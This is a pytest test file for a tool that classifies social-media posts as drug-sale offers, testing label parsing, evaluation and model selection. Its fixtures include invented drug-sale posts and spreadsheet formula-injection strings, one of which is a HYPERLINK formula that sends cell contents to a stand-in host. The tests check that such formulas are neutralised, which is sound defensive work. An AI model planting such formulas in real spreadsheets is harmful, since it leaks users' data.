"""Labels files (numbers, words, the report's export, a reviewed scan output), evaluate on them, the active model."""

from __future__ import annotations

import json
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner

from pillscan.cli import cli, main
from pillscan.config import active_model, set_default_model
from pillscan.errors import InputError, ModelError
from pillscan.labels import parse_label, read_labels

ROOT = Path(__file__).resolve().parents[1]
DEFAULT_MODEL = ROOT / "models" / "pillscan-default.joblib"

POSTS = [
    ("oxy 30s blues, 1 for 30, snap me, cashapp", "offer"),
    ("xanax bars 2mg in stock, telegram @plug, ships discreet", "1"),
    ("got my adderall refilled today, the shortage is real", "not_offer"),
    ("police seized 40,000 fake pills stamped M30", "clean"),
    ("jordan 4 size 10, $180, dm me", "0"),
    ("not sure about this one", "skip"),
    ("weed carts, dm for menu", "-1"),
]


def _csv(path: Path, rows: list[tuple[str, str]], header: str = "text,label") -> Path:
    pd.DataFrame(rows, columns=header.split(",")).to_csv(path, index=False)
    return path


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("offer", 1), ("Offer ", 1), ("1", 1), (1, 1), ("1.0", 1), (1.0, 1), (True, 1),
        ("not_offer", 0), ("not an offer", 0), ("not-offer", 0), ("clean", 0), ("0", 0), (0.0, 0),
        ("-1", -1), ("-1.0", -1), ("out_of_scope", -1),
        ("skip", None), ("review", None), ("", None), (None, None), (float("nan"), None),
    ],
)  # fmt: skip
def test_label_spellings(value: object, expected: int | None) -> None:
    assert parse_label(value) == expected


@pytest.mark.parametrize("value", ["2", "yes?", "nan", "0.5", "offerr", "inf"])
def test_unknown_labels_are_refused(value: str) -> None:
    with pytest.raises(ValueError):
        parse_label(value)


def test_read_labels_counts_what_it_leaves_out(tmp_path: Path) -> None:
    path = _csv(tmp_path / "l.csv", [*POSTS, ("   ", "offer")])
    labels = read_labels(path)
    assert (labels.offers, labels.not_offers, labels.out_of_scope) == (2, 3, 1)
    assert (labels.rows_in_file, labels.skipped, labels.empty_text) == (8, 1, 1)
    assert len(labels.sha256) == 64 and "left out: 1 skipped/undecided, 1 with empty text" in labels.describe()


def test_a_bad_label_names_its_line(tmp_path: Path) -> None:
    path = _csv(tmp_path / "l.csv", [("a", "offer"), ("b", "0"), ("c", "maybe")])
    with pytest.raises(InputError, match=r"1 rows have a label pillscan does not know \(first at line 4: 'maybe'\)"):
        read_labels(path)


def test_columns_named_or_detected(tmp_path: Path) -> None:
    path = _csv(tmp_path / "l.csv", [(t, lab) for t, lab in POSTS], header="Post,verdict")
    with pytest.raises(InputError, match=r"needs a label column .*--label-col"):
        read_labels(path)
    assert read_labels(path, label_col="verdict").text_col == "Post"
    with pytest.raises(InputError, match="no column 'nope'"):
        read_labels(path, text_col="nope", label_col="verdict")


def test_empty_and_one_class_files_are_refused(tmp_path: Path) -> None:
    (tmp_path / "empty.csv").write_text("text,label\n")
    with pytest.raises(InputError, match="has no rows"):
        read_labels(tmp_path / "empty.csv")
    one = _csv(tmp_path / "one.csv", [("a", "offer"), ("b", "1")])
    assert read_labels(one).offers == 2
    with pytest.raises(InputError, match=r"no non-offer .*need both classes"):
        read_labels(one, require_both=True)
    only_skips = _csv(tmp_path / "skips.csv", [("a", "skip")])
    with pytest.raises(InputError, match="no usable labelled rows"):
        read_labels(only_skips)


def test_a_reviewed_scan_output_reads_as_is(tmp_path: Path) -> None:
    rows = [
        {"id": "1", "source": "x", "position": 1, "score": 0.9, "decision": "offer", "drugs": ["oxycodone"],
         "signals": [{"name": "drug:oxycodone", "text": "oxy", "start": 0, "end": 3}], "reasons": [],
         "text": POSTS[0][0]},
        {"id": "2", "source": "x", "position": 2, "score": 0.3, "decision": "clean", "drugs": [], "signals": [],
         "reasons": [], "text": POSTS[2][0]},
        {"id": "3", "source": "x", "position": 3, "score": 0.2, "decision": "review", "drugs": [], "signals": [],
         "reasons": [], "text": POSTS[5][0]},
    ]  # fmt: skip
    path = tmp_path / "reviewed.jsonl"
    path.write_text("".join(json.dumps(r) + "\n" for r in rows))
    labels = read_labels(path, label_col="decision")  # decisions edited by a reviewer; "review" = not decided
    assert (labels.offers, labels.not_offers, labels.skipped) == (1, 1, 1)
    assert list(labels.frame["id"]) == ["1", "2"]


def test_evaluate_reads_words_lists_errors_and_counts_slices(tmp_path: Path) -> None:
    frame = pd.DataFrame(POSTS, columns=["body", "verdict"]).assign(slice=["a", "a", "a", "b", "b", "b", "b"])
    path = tmp_path / "l.csv"
    frame.to_csv(path, index=False)
    errors = tmp_path / "errors.csv"
    args = ["evaluate", str(path), "--text-col", "body", "--label-col", "verdict", "--errors-out", str(errors)]
    # threshold 0: everything is flagged, so the errors are exactly the three non-offers
    args += ["--model", str(DEFAULT_MODEL), "--threshold", "0", "--json", str(tmp_path / "m.json")]
    result = CliRunner().invoke(cli, args)
    assert result.exit_code == 0, result.output
    # slice a holds 2 offers and 1 non-offer: counted as such, not as "the label of its first row"
    slices = {s["slice"]: s for s in json.loads((tmp_path / "m.json").read_text())[str(path)]["slices"]}
    assert (slices["a"]["offers"], slices["a"]["not_offers"], slices["b"]["out_of_scope"]) == (2, 1, 1)
    listed = pd.read_csv(errors)
    assert list(listed["error"]) == ["false_positive"] * 3
    assert set(listed["text"]) == {t for t, lab in POSTS if lab in ("not_offer", "clean", "0")}
    assert "false positives (flagged, label 0): 3" in result.output and "missed offers" not in result.output


def test_evaluate_refuses_empty_and_one_class_files_in_one_line(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    (tmp_path / "empty.csv").write_text("text,label\n")
    assert main(["evaluate", str(tmp_path / "empty.csv")]) == 1
    assert "has no rows" in capsys.readouterr().err
    one = _csv(tmp_path / "one.csv", [("a", "offer")])
    assert main(["evaluate", str(one)]) == 1
    err = capsys.readouterr().err
    assert "need both classes" in err and err.count("\n") == 1


def test_active_model_order(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert active_model().path is None and "bundled default" in active_model().reason
    config = set_default_model(tmp_path / "from-config.joblib")
    assert json.loads(config.read_text())["model"].endswith("from-config.joblib")
    assert active_model().path == (tmp_path / "from-config.joblib").resolve()
    monkeypatch.setenv("PILLSCAN_MODEL", str(tmp_path / "from-env.joblib"))
    assert active_model().path == tmp_path / "from-env.joblib" and "PILLSCAN_MODEL" in active_model().reason
    assert active_model("x.joblib").reason == "given with --model"


def test_every_command_uses_the_named_model(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from pillscan.model import load_model

    monkeypatch.setenv("PILLSCAN_MODEL", str(tmp_path / "missing.joblib"))
    with pytest.raises(ModelError, match=r"missing.joblib \(named by the PILLSCAN_MODEL environment variable\)"):
        load_model()
    monkeypatch.setenv("PILLSCAN_MODEL", str(DEFAULT_MODEL))
    result = CliRunner().invoke(cli, ["info"])
    data = json.loads(result.output)
    assert data["path"] == str(DEFAULT_MODEL) and "PILLSCAN_MODEL" in data["active_because"]


def test_a_broken_config_file_is_one_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "c.json").write_text("{not json")
    monkeypatch.setenv("PILLSCAN_CONFIG", str(tmp_path / "c.json"))
    with pytest.raises(InputError, match="is not valid JSON"):
        active_model()


# --- spreadsheet formulas: neutralised in every CSV written for labelling, read back as the original text ---------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"oxy 30s, snap me")',
    "+1 555 0100 xanax bars in stock, dm",
    "-30 for blues today, telegram @plug",
    "@plug percs m30 ready, cashapp",
    "\tadderall 30mg, ships discreet",
    "'=already marked? percs for sale",  # a post that itself starts with the marker and a formula character
    "''double quote mark, not an offer",
    "'tis the season, not an offer",  # an apostrophe before an ordinary letter is left alone
]


def test_the_spreadsheet_marker_round_trips_and_leaves_nothing_a_spreadsheet_runs() -> None:
    import itertools

    from pillscan.textsafe import FORMULA_START, spreadsheet_cell, spreadsheet_text

    alphabet = [*FORMULA_START, "'", "a", "1", " "]
    for k in range(5):
        for chars in itertools.product(alphabet, repeat=k):
            text = "".join(chars)
            cell = spreadsheet_cell(text)
            assert spreadsheet_text(cell) == text
            assert not str(cell).startswith(FORMULA_START)
    assert spreadsheet_cell(3.5) == 3.5 and spreadsheet_text(None) is None


def test_a_label_sheet_is_inert_in_a_spreadsheet_and_reads_back_as_written(tmp_path: Path) -> None:
    from pillscan.sample import write_label_sheet

    chosen = pd.DataFrame(
        {"text": FORMULAS, "score": 0.5, "id": [f"=id{i}" for i in range(len(FORMULAS))], "why": "near"}
    )
    sheet = tmp_path / "sheet.csv"
    write_label_sheet(chosen, str(sheet))
    import csv

    with sheet.open(newline="", encoding="utf-8") as fh:
        raw = list(csv.DictReader(fh))
    assert all(not r["text"].startswith(("=", "+", "-", "@", "\t")) for r in raw)
    assert raw[0]["text"] == "'" + FORMULAS[0] and raw[0]["id"] == "'=id0"
    assert raw[-1]["text"] == FORMULAS[-1]  # not a formula: unchanged
    # The analyst fills in the label column (a -1 typed as such is marked too, and still reads as -1).
    filled = pd.read_csv(sheet, dtype=str, keep_default_na=False)
    filled["label"] = ["offer", "offer", "'-1", "offer", "offer", "offer", "not_offer", "not_offer"]
    filled.to_csv(sheet, index=False)
    labels = read_labels(sheet)
    assert list(labels.frame["text"]) == FORMULAS
    assert list(labels.frame["id"])[:2] == ["=id0", "=id1"] and list(labels.frame["label"])[:3] == [1, 1, -1]


def test_evaluate_errors_out_is_inert_in_a_spreadsheet(tmp_path: Path) -> None:
    path = _csv(tmp_path / "l.csv", [(FORMULAS[0], "not_offer"), (FORMULAS[1], "offer"), ("-ready", "clean")])
    errors = tmp_path / "errors.csv"
    args = ["evaluate", str(path), "--model", str(DEFAULT_MODEL), "--threshold", "0", "--errors-out", str(errors)]
    result = CliRunner().invoke(cli, args)
    assert result.exit_code == 0, result.output
    listed = pd.read_csv(errors, dtype=str, keep_default_na=False)
    assert set(listed["text"]) == {"'" + FORMULAS[0], "'-ready"}


# --- hostile labels files: one line each, from evaluate and from train --extra, before any work -----------------


def _cut_gzip(rows: bytes) -> bytes:
    import gzip

    data = gzip.compress(rows * 200)
    return data[: len(data) // 2]


HOSTILE_LABELS = {
    "zero.csv": (b"", "No columns to parse"),
    "header.csv": (b"text,label\n", "has no rows"),
    "columns.csv": (b"post_body,verdict\nxanax,offer\n", "needs a text column"),
    "excel-1252.csv": ("text,label\ncaf\xe9 xanax bars,offer\nna\xefve,clean\n".encode("cp1252"), "is not UTF-8"),
    "array.jsonl": (b'{"text":"a","label":"offer"}\n[1,2]\n', "line 2 is no labelled row"),
    "broken.jsonl": (b'{"text":"a","label":"offer"}\n{"text": oops\n', "line 2 is not JSON"),
    "fake.parquet": (b"PAR1 not really parquet", "could not read labels file"),
    "binary.csv": (bytes(range(256)) * 64, "is not text"),
    "cut.csv.gz": (_cut_gzip(b"text,label\nxanax bars 2mg,offer\n"), "cut.csv.gz"),
    "unknown.csv": (b"text,label\nxanax,offer\n=1+1,definitely\n", "first at line 3"),
}


@pytest.mark.parametrize("name", sorted(HOSTILE_LABELS))
def test_hostile_labels_files_are_one_line_before_any_work(
    tmp_path: Path, capsys: pytest.CaptureFixture, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    import pillscan.generate
    import pillscan.model

    body, message = HOSTILE_LABELS[name]
    path = tmp_path / name
    path.write_bytes(body)
    with pytest.raises(InputError, match=message):
        read_labels(path)

    def boom(*args: object, **kwargs: object) -> None:
        raise AssertionError("work started before the labels were validated")

    monkeypatch.setattr(pillscan.generate, "generate_corpus", boom)
    monkeypatch.setattr(pillscan.model, "load_model", boom)
    for command in (["train", "--extra", str(path), "-o", str(tmp_path / "m.joblib")], ["evaluate", str(path)]):
        assert main(command) == 1, command
        err = capsys.readouterr().err
        assert err.startswith("pillscan: error:") and err.count("\n") == 1 and "Traceback" not in err, err
        assert name in err and not (tmp_path / "m.joblib").exists()


def test_labels_as_spreadsheets_save_them_read_back(tmp_path: Path) -> None:
    """Excel's "CSV UTF-8" (a BOM), its "Unicode text" (UTF-16, tabs, .txt), a gzipped CSV, and a 2 MB post."""
    import gzip

    rows = "text\tlabel\r\ncafé xanax bars 2mg\toffer\r\nnaïve question\tnot_offer\r\n"
    (tmp_path / "unicode.txt").write_bytes(rows.encode("utf-16"))
    (tmp_path / "bom.csv").write_bytes(b"\xef\xbb\xbf" + rows.replace("\t", ",").encode("utf-8"))
    (tmp_path / "l.csv.gz").write_bytes(gzip.compress(rows.replace("\t", ",").encode("utf-8")))
    for name in ("unicode.txt", "bom.csv", "l.csv.gz"):
        labels = read_labels(tmp_path / name, require_both=True)
        assert list(labels.frame["text"]) == ["café xanax bars 2mg", "naïve question"], name
        assert list(labels.frame["label"]) == [1, 0] and labels.text_col == "text"
    assert "read as utf-16" in read_labels(tmp_path / "unicode.txt").describe()
    huge = "oxy 30s " + "a" * 2_000_000
    _csv(tmp_path / "huge.csv", [(huge, "offer"), ("hello", "clean")])
    assert read_labels(tmp_path / "huge.csv").frame["text"][0] == huge


def test_evaluate_lists_missed_offers_too(tmp_path: Path) -> None:
    path = _csv(tmp_path / "l.csv", POSTS)
    errors = tmp_path / "errors.csv"
    args = ["evaluate", str(path), "--model", str(DEFAULT_MODEL), "--threshold", "1.0", "--errors-out", str(errors)]
    result = CliRunner().invoke(cli, args)  # threshold 1: nothing is flagged, so every offer is missed
    assert result.exit_code == 0, result.output
    listed = pd.read_csv(errors)
    assert list(listed["error"]) == ["false_negative"] * 2
    assert set(listed["text"]) == {t for t, lab in POSTS if lab in ("offer", "1")}
    assert "missed offers (label 1): 2" in result.output and "false positives (flagged" not in result.output


def test_every_model_command_loads_the_model_pillscan_model_names(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture
) -> None:
    """PILLSCAN_MODEL naming a missing file: every command that loads a model says so (none falls back to the
    bundled default), in one line."""
    posts = tmp_path / "posts.txt"
    posts.write_text("xanax bars 2mg, snap me\n")
    labelled = _csv(tmp_path / "l.csv", POSTS)
    scanned = tmp_path / "scan.jsonl"
    scanned.write_text(json.dumps({"text": "xanax bars", "score": 0.5}) + "\n")
    monkeypatch.setenv("PILLSCAN_MODEL", str(tmp_path / "missing.joblib"))
    commands = [
        ["info"],
        ["explain", "xanax bars"],
        ["score", str(posts)],
        ["scan", str(posts), "-o", str(tmp_path / "o.jsonl"), "--workers", "1"],
        ["evaluate", str(labelled)],
        ["sample", str(scanned), "-n", "1", "-o", str(tmp_path / "s.csv")],
    ]
    for command in commands:
        assert main(["-q", *command]) == 1, command
        err = capsys.readouterr().err
        assert "missing.joblib (named by the PILLSCAN_MODEL environment variable)" in err, (command, err)
        assert err.count("\n") == 1, err
